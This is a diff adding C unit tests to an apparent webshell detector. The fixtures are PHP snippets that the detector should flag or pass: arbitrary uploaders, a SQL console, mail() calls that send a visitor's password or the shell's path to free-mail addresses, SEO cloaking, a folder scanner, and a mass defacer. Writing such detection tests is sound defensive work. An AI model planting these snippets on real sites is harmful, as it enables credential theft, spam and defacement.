@@ -440,6 +440,54 @@ static void test_combined_score(void) {
   CHECK_STREQ(f.category, "webshell");
 }
 
+/* PHP tools that pass no request input to code or commands: uploaders, consoles, mailers, scanners. */
+static void test_php_tools(void) {
+  const lang_detection *d;
+  /* the request names the folder, the client the file: the whole path is theirs */
+  d = analyze("PHP", "<?php $d = $_POST['dir']; $n = $_FILES['f']['name']; copy($_FILES['f']['tmp_name'], $d . '/' . $n);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.uploader") == 0 && strstr(d->description, "copy() writes"));
+  CHECK(!analyze("PHP", "<?php $a = (int) $_POST['a']; move_uploaded_file($_FILES['f']['tmp_name'], '/srv/g/' . $a . '/x.jpg');"));
+  /* a request value with a literal default is still the whole request value */
+  d = analyze("PHP", "<?php $q = $_POST['sql'] ? $_POST['sql'] : 'select 1'; mysql_query($q);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.sql-console") == 0 && d->score < 70);
+  /* a free-mail drop: where the shell sits, or what the visitor typed as a password */
+  d = analyze("PHP", "<?php mail('x.y@gmail.com', $_SERVER['HTTP_HOST'], $_SERVER['DOCUMENT_ROOT'] . $_SERVER['PHP_SELF']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.mail-exfil") == 0 && d->score >= 40 && d->score < 70);
+  d = analyze("PHP", "<?php $p = $_POST['passwd']; mail('x.y@yahoo.com', 'log', 'p=' . $p);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.mail-exfil") == 0 && strstr(d->description, "$_POST['passwd']"));
+  CHECK(!analyze("PHP", "<?php mail('x.y@gmail.com', 'Contact', strip_tags($_POST['message']));"));
+  CHECK(!analyze("PHP", "<?php mail($cfg['admin'], $_GET['s'], $_SERVER['DOCUMENT_ROOT']);"));
+  /* a request-named file read through compress.zlib:// */
+  d = analyze("PHP", "<?php $f = $_GET['f']; readfile('compress.zlib://' . $f);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.file-read") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php $k = md5($_GET['p']); readfile('compress.zlib://' . __DIR__ . '/c/' . $k);"));
+  /* a request-named folder walked for writable entries */
+  d = analyze("PHP", "<?php $d = opendir($_GET['d']); while ($f = readdir($d)) if (is_writable($f)) echo $f;");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.folder-scanner") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php $n = $_GET['n']; $d = opendir('/srv/x'); while ($f = readdir($d)) if (is_writable($f)) echo $n;"));
+  /* a crawler gets the page a remote server makes for this host */
+  d = analyze("PHP", "<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) "
+                     "echo file_get_contents('http://203.0.113.9/p?h=' . $_SERVER['HTTP_HOST']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.seo-cloaking") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') === false) "
+                        "echo file_get_contents('http://203.0.113.9/geo/' . $_SERVER['REMOTE_ADDR']);"));
+  /* any file read, beside a database login the request chooses */
+  d = analyze("PHP", "<?php readfile($_GET['f']); $l = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.file-manager") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php readfile($_GET['f']);")); /* a reader alone: an application's bug */
+  CHECK(!analyze("PHP", "<?php echo file_get_contents($_FILES['c']['tmp_name']); $l = mysqli_connect($_POST['h'], 'u', 'p');"));
+  /* a mailer object the request drives whole; a mass defacer */
+  d = analyze("PHP", "<?php $m = new PHPMailer(); $m->setFrom($_POST['f']); $m->addAddress($_POST['t']); "
+                     "$m->Subject = $_POST['s']; $m->Body = $_POST['b']; $m->send();");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.mailer") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php function send($f, $t, $s, $b) { $m = new PHPMailer(); $m->setFrom($f); "
+                        "$m->addAddress($t); $m->Subject = $s; $m->Body = $b; $m->send(); } echo $_GET['x'];"));
+  d = analyze("PHP", "<?php foreach (scandir('/var/www') as $d) file_put_contents(\"/var/www/$d/index.html\", $_POST['c']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.mass-defacer") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php $x = $_GET['x']; foreach (scandir('/srv/d') as $d) file_put_contents(\"/srv/d/$d/index.html\", '');"));
+  CHECK(!analyze("PHP", "<?php $q = $_GET['q'] ?? 'x'; mysql_query(\"SELECT 1 FROM t WHERE a = '\" . mysql_real_escape_string($q) . \"'\");"));
+}
+
 int main(void) {
   ctx = lang_ctx_new(NULL);
   RUN(test_base64_hex_url);
@@ -456,6 +504,7 @@ int main(void) {
   RUN(test_php_own_decoder);
   RUN(test_prefilter_and_stats);
   RUN(test_combined_score);
+  RUN(test_php_tools);
   lang_ctx_free(ctx);
   TEST_END();
 }
